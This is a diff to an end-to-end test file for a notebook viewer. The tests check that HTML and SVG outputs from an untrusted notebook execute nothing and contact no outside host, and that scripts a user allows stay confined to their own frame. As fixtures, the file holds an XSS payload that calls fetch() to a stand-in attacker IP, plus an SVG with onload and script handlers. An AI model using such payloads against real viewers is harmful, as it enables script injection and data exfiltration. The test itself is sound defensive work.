@@ -1,7 +1,9 @@
 import { barriers, expect, screenshots, until } from "../harness";
 import { cell, opened, test } from "./stage";
 
-const html = (text: string) => [{ output_type: "display_data", metadata: {}, data: { "text/html": text, "text/plain": "text" } }];
+const html = (text: string) => [
+  { output_type: "display_data", metadata: {}, data: { "text/html": text, "text/plain": "text" } },
+];
 const mark = "window.top.__ran = 1; fetch('http://203.0.113.7/out')";
 
 /** Each tries to run a script, to reach another host, or to leave its place. */
@@ -19,8 +21,19 @@ const hostile = [
 ];
 
 test("outputs of a hostile notebook run nothing and reach nobody", async ({ world, visit }) => {
-  const svg = [{ output_type: "display_data", metadata: {}, data: { "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="${mark}"><script>${mark}</script><image href="http://203.0.113.7/x.png" width="9" height="9"/></svg>` } }];
-  const session = await opened(world, "From elsewhere", [...hostile.map((h) => ({ source: "x", count: 1, outputs: html(h) })), { source: "x", count: 2, outputs: svg }]);
+  const svg = [
+    {
+      output_type: "display_data",
+      metadata: {},
+      data: {
+        "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="${mark}"><script>${mark}</script><image href="http://203.0.113.7/x.png" width="9" height="9"/></svg>`,
+      },
+    },
+  ];
+  const session = await opened(world, "From elsewhere", [
+    ...hostile.map((h) => ({ source: "x", count: 1, outputs: html(h) })),
+    { source: "x", count: 2, outputs: svg },
+  ]);
   const v = await visit();
   v.allow(/content policy|Content Security Policy|Refused to/); // the frame's own policy says what it kept in
   const out: string[] = [];
@@ -41,8 +54,12 @@ test("outputs of a hostile notebook run nothing and reach nobody", async ({ worl
 });
 
 test("scripts of one output run when somebody allows them, in that output alone", async ({ world, visit }) => {
-  const page = (name: string) => html(`<p id="p">still</p><script>document.getElementById("p").textContent = "${name} ran"</script>`);
-  const session = await opened(world, "Two pages", [{ source: "x", count: 1, outputs: page("one") }, { source: "x", count: 2, outputs: page("two") }]);
+  const page = (name: string) =>
+    html(`<p id="p">still</p><script>document.getElementById("p").textContent = "${name} ran"</script>`);
+  const session = await opened(world, "Two pages", [
+    { source: "x", count: 1, outputs: page("one") },
+    { source: "x", count: 2, outputs: page("two") },
+  ]);
   const v = await visit({ path: `/s/${session}/notebook` });
   const text = (id: string) => cell(v.page, id).frameLocator("iframe").locator("#p");
   await text("c0").getByText("still").or(text("c0")).first().waitFor();
@@ -71,10 +88,34 @@ for (const phone of [false, true]) {
     const session = await opened(world, "Weekly demand forecast", [
       { type: "markdown", source: "## Weekly demand\n\nUnits by **region**." },
       { source: "weekly.head()", count: 4, outputs: html(frame) },
-      { source: "print('hello')", count: 5, outputs: [{ output_type: "stream", name: "stdout", text: "hello\n" }, { output_type: "stream", name: "stderr", text: "careful\n" }, { output_type: "error", ename: "ValueError", evalue: "no", traceback: ["\u001b[31mValueError\u001b[0m: no"] }] },
-      { source: "data", count: 6, outputs: [{ output_type: "execute_result", execution_count: 6, metadata: {}, data: { "application/json": { a: [1, 2], b: null } } }, { output_type: "display_data", metadata: {}, data: { "text/html": "<p>A page</p>" } }] },
+      {
+        source: "print('hello')",
+        count: 5,
+        outputs: [
+          { output_type: "stream", name: "stdout", text: "hello\n" },
+          { output_type: "stream", name: "stderr", text: "careful\n" },
+          { output_type: "error", ename: "ValueError", evalue: "no", traceback: ["\u001b[31mValueError\u001b[0m: no"] },
+        ],
+      },
+      {
+        source: "data",
+        count: 6,
+        outputs: [
+          {
+            output_type: "execute_result",
+            execution_count: 6,
+            metadata: {},
+            data: { "application/json": { a: [1, 2], b: null } },
+          },
+          { output_type: "display_data", metadata: {}, data: { "text/html": "<p>A page</p>" } },
+        ],
+      },
     ]);
-    const v = await visit({ path: `/s/${session}/notebook`, phone, prefs: phone ? { theme: "dark", language: "ko" } : {} });
+    const v = await visit({
+      path: `/s/${session}/notebook`,
+      phone,
+      prefs: phone ? { theme: "dark", language: "ko" } : {},
+    });
     v.allow(/localStorage.*sandboxed/); // of the test's own script, in the frame
     await cell(v.page, "c1").locator("table").waitFor();
     expect(await barriers(v.page)).toEqual([]);
